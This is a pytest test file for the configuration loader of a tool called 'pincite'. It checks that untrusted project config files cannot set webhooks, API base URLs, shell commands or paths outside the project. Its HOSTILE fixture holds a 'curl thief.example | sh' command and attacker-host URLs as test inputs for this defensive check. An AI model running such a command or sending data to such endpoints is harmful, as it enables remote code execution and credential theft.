"""What a project's configuration file may say, found or named, before and after it was trusted."""

from __future__ import annotations

import json
import os
import re
import stat
import threading
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from msgspec import inspect

from pincite.config import (
    Reach,
    Settings,
    defaults,
    distrust_file,
    find_settings,
    load_settings,
    project_root,
    reach_of,
    review_settings,
    settings_from,
    trust_records,
    trust_settings,
    type_of,
    upwards,
    user_folder,
)
from pincite.errors import ConfigError

HOSTILE = """
fail_under = 0.9
[llm]
base_url = "https://thief.example/v1"
[alerts]
webhook = "https://thief.example/hook"
command = ["sh", "-c", "curl thief.example | sh"]
"""
KEYS = "alerts.command, alerts.webhook, llm.base_url"


REACHING = [
    ("llm.base_url = 'http://127.0.0.1:9'", "llm.base_url"),
    ("alerts.webhook = 'http://127.0.0.1:9'", "alerts.webhook"),
    ("alerts.webhook = ''", "alerts.webhook"),
    ("alerts.command = ['true']", "alerts.command"),
    ("judge = 'llm:gpt'", "judge"),
    ("judge = 'llm'", "judge"),
    ("judge = 'nli:./model'", "judge"),
    ("judge = 'panel:cascade:rules,llm:gpt'", "judge"),
    ("online = true", "online"),
    ("store.url = 'postgresql://thief.example/runs'", "store.url"),
    ("store.url = '/etc/passwd'", "store.url"),
    ("store.url = 'sqlite:////etc/passwd'", "store.url"),
    ("store.url = '~/runs.sqlite'", "store.url"),
    ("sources = ['docs', '../other']", "sources"),
    ("sources = ['/etc']", "sources"),
    ("baseline = '../known.json'", "baseline"),
    ("calibration = '/tmp/calibration.json'", "calibration"),
    ("llm.prices = '../prices.toml'", "llm.prices"),
    ("cache.folder = '/tmp'", "cache.folder"),
]
HARMLESS = [
    "judge = 'rules'",
    "judge = 'panel:mean:rules,entailment'",
    "fail_under = 0.9",
    "sources = ['docs', 'deep/../notes']",
    "baseline = 'known.json'",
    "cache.folder = '.cache'",
    "llm.model = 'some/model'",
    "llm.max_cost = 2.0",
    "evaluation.metrics = ['hit@1']",
]


class Project:
    """A repository, and a user with a folder of their own."""

    def __init__(self, folder: Path) -> None:
        self.root = folder / "repository"
        self.home = folder / "home"
        (self.root / ".git").mkdir(parents=True)
        (self.root / "deep" / "down").mkdir(parents=True)
        self.home.mkdir()
        self.told: list[str] = []

    @property
    def environment(self) -> Mapping[str, str]:
        return {"HOME": str(self.home), "XDG_CONFIG_HOME": str(self.home / "config")}

    @property
    def file(self) -> Path:
        return self.root / "pincite.toml"

    def load(
        self, config: Path | None = None, folder: Path | None = None, trust: bool = False, **flags: Any
    ) -> Settings:
        """As the command line does: naming a file is no trust."""
        self.told.clear()
        place = folder or self.root
        return load_settings(
            config, folder=place, environment=self.environment, tell=self.told.append, trust=trust, **flags
        )

    def trust(self, folder: Path | None = None) -> None:
        found = find_settings(folder or self.root, self.environment)
        assert found is not None
        trust_settings(found, self.environment)


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path)


# --- every key -----------------------------------------------------------------------------------


def holds_text(path: str) -> bool:
    """Whether any text at all may stand there, alone or in a list; not one of a few fixed words."""
    waiting = [inspect.type_info(type_of(path))]
    while waiting:
        kind = waiting.pop()
        if isinstance(kind, inspect.StrType | inspect.AnyType | inspect.DictType):
            return True
        if isinstance(kind, inspect.UnionType):
            waiting += kind.types
        if isinstance(kind, inspect.VarTupleType | inspect.ListType):
            waiting.append(kind.item_type)
    return False


@pytest.mark.parametrize("path", sorted(defaults()))
def test_every_setting_that_may_hold_an_address_a_command_or_a_path_says_what_it_reaches(path: str) -> None:
    if holds_text(path):
        assert reach_of(path) is not None, f"{path}: annotate it with a Reach"


@pytest.mark.parametrize("path", sorted(defaults()))
def test_a_setting_whose_name_speaks_of_secrets_addresses_or_code_reaches_something(path: str) -> None:
    telling = (
        r"url|host|address|webhook|proxy|header|key|token\b|secret|password|command|module|online|folder|file"
    )
    if re.search(telling, path.rpartition(".")[2]):
        assert reach_of(path) not in (None, Reach.NOTHING), path


def test_a_text_setting_without_a_decision_would_be_noticed() -> None:
    assert all(holds_text(path) for path in ("judge", "alerts.command", "llm.base_url", "sources"))
    assert not any(holds_text(path) for path in ("offsets", "strict", "fail_under", "llm.max_cost"))


@pytest.mark.parametrize(("text", "key"), REACHING)
def test_what_reaches_beyond_the_project_is_ignored_in_an_untrusted_file(
    project: Project, text: str, key: str
) -> None:
    project.file.write_text(f"{text}\n")
    assert project.load() == Settings()
    assert f"so these settings are ignored: {key};" in project.told[0]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_stays_in_the_project_counts_from_any_file(project: Project, text: str) -> None:
    project.file.write_text(f"{text}\n")
    assert project.load() != Settings()
    assert project.told == []


def test_a_history_inside_the_project_counts_from_any_file(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project.root)
    project.file.write_text("store.url = 'sqlite:///data/mine.sqlite'\n")
    assert project.load().store.url == "sqlite:///data/mine.sqlite"


def test_a_link_in_the_project_that_leads_out_of_it_is_no_way_out(project: Project) -> None:
    (project.root / "docs").symlink_to(project.home)
    project.file.write_text("sources = ['docs']\n")
    assert project.load().sources == ()
    assert "sources" in project.told[0]


def test_a_wrong_value_is_an_error_whoever_says_it(project: Project) -> None:
    project.file.write_text("alerts.webhook = 5\nonline = 'maybe'\nllm.base_url = {a = 1}\n")
    with pytest.raises(ConfigError, match=r"alerts\.webhook: expected a text"):
        project.load()


# --- which files count ---------------------------------------------------------------------------


def test_a_found_file_cannot_send_a_key_or_run_a_program_and_its_other_settings_count(
    project: Project,
) -> None:
    project.file.write_text(HOSTILE)
    settings = project.load(folder=project.root / "deep")
    assert settings == Settings(fail_under=0.9)
    (line,) = project.told
    assert line == (
        f"{project.file} is not trusted, so these settings are ignored: {KEYS}; "
        "`pincite trust` shows and allows them, or give --trust-config (PINCITE_TRUST_CONFIG=1)"
    )


def test_the_same_holds_for_the_table_in_pyproject_and_the_specifications_names(project: Project) -> None:
    (project.root / "pyproject.toml").write_text(
        "[tool.pincite.citation_accuracy.llm]\nbase-url = 'https://thief.example'\n"
    )
    assert project.load() == Settings()
    assert "pyproject.toml is not trusted, so these settings are ignored: llm.base_url;" in project.told[0]


def named_in_each_way(project: Project, path: Path) -> Iterator[Callable[..., Settings]]:
    """By `--config` and by the variable."""
    yield partial(project.load, path)
    environment = {**project.environment, "PINCITE_CONFIG": str(path)}
    yield partial(load_settings, folder=project.root, environment=environment)


@pytest.mark.parametrize("name", ["pincite.toml", "deep/other.toml", "ci.yaml", "--config=x.md"])
@pytest.mark.parametrize("folder", [".", "deep/down"])
def test_a_file_of_the_project_that_is_named_is_refused_until_it_is_trusted(
    project: Project, name: str, folder: str
) -> None:
    path = project.root / name
    path.write_text("judge: llm:gpt\n" if path.suffix != ".toml" else "judge = 'llm:gpt'\n")
    for load in named_in_each_way(project, path):
        with pytest.raises(ConfigError) as refused:
            load(folder=project.root / folder)
        assert str(refused.value) == (
            f"{path} is inside the project and is not trusted, so it may not set judge; "
            f"`pincite trust {path}` shows and allows them, or give --trust-config (PINCITE_TRUST_CONFIG=1)"
        )
    trust_settings(review_settings(path, project.environment), project.environment)
    for load in named_in_each_way(project, path):
        assert load(folder=project.root / folder).judge == "llm:gpt"
    path.write_text(path.read_text().replace("gpt", "other"))
    with pytest.raises(ConfigError, match="has changed since it was trusted, so it may not set judge"):
        project.load(path)


@pytest.mark.parametrize(("text", "key"), REACHING)
def test_what_reaches_beyond_the_project_is_refused_in_a_file_that_is_named(
    project: Project, text: str, key: str
) -> None:
    project.file.write_text(f"{text}\n")
    for load in named_in_each_way(project, project.file):
        with pytest.raises(ConfigError, match=f"so it may not set {re.escape(key)};"):
            load()


@pytest.mark.parametrize("text", HARMLESS)
def test_what_stays_in_the_project_counts_from_a_file_that_is_named(project: Project, text: str) -> None:
    project.file.write_text(f"{text}\n")
    for load in named_in_each_way(project, project.file):
        assert load() != Settings()


def test_the_table_in_a_pyproject_that_is_named_needs_trust_too(project: Project) -> None:
    file = project.root / "deep" / "pyproject.toml"
    file.write_text("[tool.pincite.alerts]\ncommand = ['true']\n")
    with pytest.raises(ConfigError, match=r"so it may not set alerts\.command"):
        project.load(file)


def test_a_link_in_the_project_is_no_way_around_trust(project: Project, tmp_path: Path) -> None:
    outside = tmp_path / "outside.toml"
    outside.write_text(HOSTILE)
    link = project.root / "link.toml"
    link.symlink_to(outside)
    with pytest.raises(ConfigError, match="is a link to a file outside the project"):
        project.load(link)
    project.file.write_text(HOSTILE)
    (tmp_path / "way in.toml").symlink_to(project.file)
    with pytest.raises(ConfigError, match="is inside the project"):
        project.load(tmp_path / "way in.toml")


@pytest.mark.parametrize("word", ["1", "true", "yes"])
def test_a_flag_or_a_variable_trusts_whatever_file_is_used(project: Project, word: str) -> None:
    project.file.write_text(HOSTILE)
    environment = {**project.environment, "PINCITE_TRUST_CONFIG": word}
    assert load_settings(folder=project.root, environment=environment).alerts.command
    environment["PINCITE_CONFIG"] = str(project.file)
    assert load_settings(folder=project.root, environment=environment).alerts.command
    assert project.load(trust=True).alerts.command and project.load(project.file, trust=True).alerts.command
    assert project.told == []


@pytest.mark.parametrize("word", ["0", "no", ""])
def test_a_variable_that_says_no_trusts_nothing(project: Project, word: str) -> None:
    project.file.write_text(HOSTILE)
    environment = {**project.environment, "PINCITE_TRUST_CONFIG": word}
    assert not load_settings(folder=project.root, environment=environment).alerts.command
    with pytest.raises(ConfigError, match="PINCITE_TRUST_CONFIG: expected true or false, found maybe"):
        load_settings(folder=project.root, environment={"PINCITE_TRUST_CONFIG": "maybe"})


def test_no_file_can_grant_trust(project: Project) -> None:
    project.file.write_text("trust_config = true\n")
    with pytest.raises(ConfigError, match="there is no setting 'trust_config'"):
        project.load()


def test_a_named_file_outside_the_project_needs_no_trust(project: Project, tmp_path: Path) -> None:
    (tmp_path / "mine.toml").write_text(HOSTILE)
    for load in named_in_each_way(project, tmp_path / "mine.toml"):
        assert load().llm.base_url == "https://thief.example/v1"


def test_a_file_that_a_program_names_needs_no_trust(project: Project) -> None:
    project.file.write_text(HOSTILE)
    named = load_settings(project.file, folder=project.root, environment=project.environment)
    assert named.llm.base_url == "https://thief.example/v1"
    assert settings_from({"alerts": {"webhook": "https://mine.example"}}).alerts.webhook


def test_flags_and_variables_need_no_trust(project: Project) -> None:
    environment = {**project.environment, "PINCITE_ALERTS_WEBHOOK": "https://mine.example"}
    settings = load_settings(folder=project.root, environment=environment, llm_base_url="http://127.0.0.1:1")
    assert settings.alerts.webhook == "https://mine.example"
    assert settings.llm.base_url == "http://127.0.0.1:1"


def test_the_users_own_file_needs_no_trust_and_a_found_one_goes_before_it(project: Project) -> None:
    own = project.home / "config" / "pincite" / "pincite.toml"
    own.parent.mkdir(parents=True)
    own.write_text("fail_under = 0.5\nlanguage = 'de'\nalerts.webhook = 'https://mine.example'\n")
    project.file.write_text(HOSTILE)
    settings = project.load()
    assert (settings.fail_under, settings.language) == (0.9, "de")
    assert settings.alerts.webhook == "https://mine.example"
    assert project.load(project.file, trust=True).language == "en", "a named file is the only one"


def test_the_users_own_file_needs_no_trust_in_its_own_folder_either(project: Project) -> None:
    own = project.home / "config" / "pincite" / "pincite.toml"
    own.parent.mkdir(parents=True)
    own.write_text("alerts.webhook = 'https://mine.example'\n")
    assert project.load(folder=own.parent).alerts.webhook == "https://mine.example"
    assert project.told == []


def test_an_untrusted_file_cannot_raise_a_budget_that_the_user_has_set(project: Project) -> None:
    project.file.write_text("llm.max_cost = 1000.0\n")
    assert project.load().llm.max_cost == 1000.0
    own = project.home / "config" / "pincite" / "pincite.toml"
    own.parent.mkdir(parents=True)
    own.write_text("llm.max_cost = 1.0\n")
    assert project.load().llm.max_cost == 1.0
    assert "llm.max_cost" in project.told[0]


def test_without_somebody_to_tell_the_line_goes_to_the_logger(
    project: Project, caplog: pytest.LogCaptureFixture
) -> None:
    project.file.write_text(HOSTILE)
    load_settings(folder=project.root, environment=project.environment)
    assert KEYS in caplog.text


# --- where files are looked for ------------------------------------------------------------------


@pytest.mark.parametrize("marker", [".git", ".hg", ".jj"])
def test_the_search_ends_at_the_root_of_the_repository(tmp_path: Path, marker: str) -> None:
    (tmp_path / "pincite.toml").write_text("strict = true\n")
    inner = tmp_path / "repository" / "inner"
    inner.mkdir(parents=True)
    assert load_settings(folder=inner, environment={}).strict
    (tmp_path / "repository" / marker).write_text("gitdir: elsewhere\n")
    assert not load_settings(folder=inner, environment={}).strict
    (tmp_path / "repository" / "pincite.toml").write_text("fail_under = 0.1\n")
    assert load_settings(folder=inner, environment={}).fail_under == 0.1


def test_outside_a_repository_the_search_ends_at_the_home_folder(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / "notes").mkdir(parents=True)
    (tmp_path / "pincite.toml").write_text("strict = true\n")
    assert not load_settings(folder=home / "notes", environment={"HOME": str(home)}).strict
    (home / "pincite.toml").write_text("strict = true\n")
    assert load_settings(folder=home / "notes", environment={"HOME": str(home)}).strict


@pytest.mark.skipif(not hasattr(os, "chown") or os.getuid() != 0, reason="only root can give files away")
def test_the_search_ends_before_a_folder_of_somebody_else(tmp_path: Path) -> None:
    inner = tmp_path / "theirs" / "mine"
    inner.mkdir(parents=True)
    os.chown(tmp_path / "theirs", 12345, 12345)
    assert list(upwards(inner, None)) == [inner]
    os.chown(inner, 12345, 12345)
    assert list(upwards(inner, None))[:2] == [inner, inner.parent], "as in a container that mounts a project"


def test_the_root_of_a_project_outside_any_repository_is_the_folder_itself(tmp_path: Path) -> None:
    root = project_root(tmp_path)
    assert root == tmp_path or (root / ".git").exists()


def test_the_users_folder_is_where_the_platform_has_it() -> None:
    home = {"HOME": "/home/ann"}
    assert user_folder(home, "linux") == Path("/home/ann/.config/pincite")
    assert user_folder(home, "darwin") == Path("/home/ann/Library/Application Support/pincite")
    assert user_folder({**home, "XDG_CONFIG_HOME": "/c"}, "linux") == Path("/c/pincite")
    assert user_folder({"APPDATA": "/roaming"}, "win32") == Path("/roaming/pincite")
    assert user_folder({**home, "XDG_CONFIG_HOME": "relative"}, "linux") == Path("/home/ann/.config/pincite")
    assert user_folder({}, "linux") is None


# --- trusting ------------------------------------------------------------------------------------


def test_a_trusted_file_counts_until_one_of_those_settings_changes(project: Project) -> None:
    project.file.write_text(HOSTILE)
    project.trust(project.root / "deep")
    assert project.load().llm.base_url == "https://thief.example/v1"
    project.file.write_text(HOSTILE.replace("0.9", "0.8") + "\n# a remark\n")
    assert project.load().alerts.command and project.load().fail_under == 0.8
    project.file.write_text(HOSTILE.replace("/hook", "/other"))
    assert project.load() == Settings(fail_under=0.9)
    assert f"{project.file} has changed since it was trusted" in project.told[0]
    project.trust()
    assert project.load().alerts.webhook == "https://thief.example/other"
    assert distrust_file(project.file, project.environment)
    assert not distrust_file(project.file, project.environment)
    assert project.load().llm.base_url is None and "is not trusted" in project.told[0]


def test_a_setting_that_joins_the_trusted_ones_must_be_trusted_too(project: Project) -> None:
    project.file.write_text("llm.base_url = 'https://mine.example'\n")
    project.trust()
    project.file.write_text("llm.base_url = 'https://mine.example'\nalerts.command = ['true']\n")
    assert project.load() == Settings()


def test_a_copy_of_a_trusted_file_is_not_trusted(project: Project, tmp_path: Path) -> None:
    project.file.write_text(HOSTILE)
    project.trust()
    other = tmp_path / "other"
    (other / ".git").mkdir(parents=True)
    (other / "pincite.toml").write_text(HOSTILE)
    assert project.load(folder=other).llm.base_url is None
    (other / "pincite.toml").unlink()
    (other / "pincite.toml").symlink_to(project.file)
    settings = project.load(folder=other)
    assert settings == Settings(fail_under=0.9)
    assert "is a link to a file outside the project" in project.told[0]


def test_the_record_is_private_holds_no_value_and_lies_in_no_project(project: Project) -> None:
    project.file.write_text(HOSTILE)
    project.trust()
    (record,) = (project.home / "config").rglob("*.json")
    assert "thief" not in record.read_text()
    if os.name == "posix":
        assert stat.S_IMODE(record.stat().st_mode) == 0o600
        assert stat.S_IMODE(record.parent.stat().st_mode) == 0o700
    inside = {"HOME": str(project.root), "XDG_CONFIG_HOME": str(project.root / "config")}
    found = find_settings(project.root, inside)
    assert found is not None
    with pytest.raises(ConfigError, match="outside the project"):
        trust_settings(found, inside)
    # A project that brings a record of itself along is not believed.
    place = project.root / "config" / "pincite" / "trusted" / record.name
    place.parent.mkdir(parents=True)
    place.write_bytes(record.read_bytes())
    assert load_settings(folder=project.root, environment=inside).llm.base_url is None


@pytest.mark.parametrize("damage", [b"", b"{", b"[]", b"\xff\xfe", b'{"path": 1}'])
def test_a_damaged_record_trusts_nothing_and_can_be_written_anew(project: Project, damage: bytes) -> None:
    project.file.write_text(HOSTILE)
    project.trust()
    (record,) = (project.home / "config").rglob("*.json")
    record.write_bytes(damage)
    assert project.load().llm.base_url is None
    assert trust_records(project.environment) == []
    project.trust()
    assert project.load().llm.base_url


def test_many_may_trust_at_once(project: Project, tmp_path: Path) -> None:
    """Each file has a record of its own, replaced in one step: nobody loses what another wrote."""
    folders = [tmp_path / f"project{number}" for number in range(8)]
    for folder in folders:
        (folder / ".git").mkdir(parents=True)
        (folder / "pincite.toml").write_text("alerts.command = ['true']\n")
    threads = [threading.Thread(target=project.trust, args=(folder,)) for folder in folders for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [record.path for record in trust_records(project.environment)] == [
        str(folder / "pincite.toml") for folder in folders
    ]
    assert all(project.load(folder=folder).alerts.command for folder in folders)
    assert not list((project.home / "config").rglob("*.tmp"))


def test_a_record_says_what_is_trusted_and_since_when(project: Project) -> None:
    project.file.write_text(HOSTILE)
    project.trust()
    (record,) = trust_records(project.environment)
    assert ", ".join(record.settings) == KEYS
    assert json.dumps(record.trusted_at).endswith('Z"')
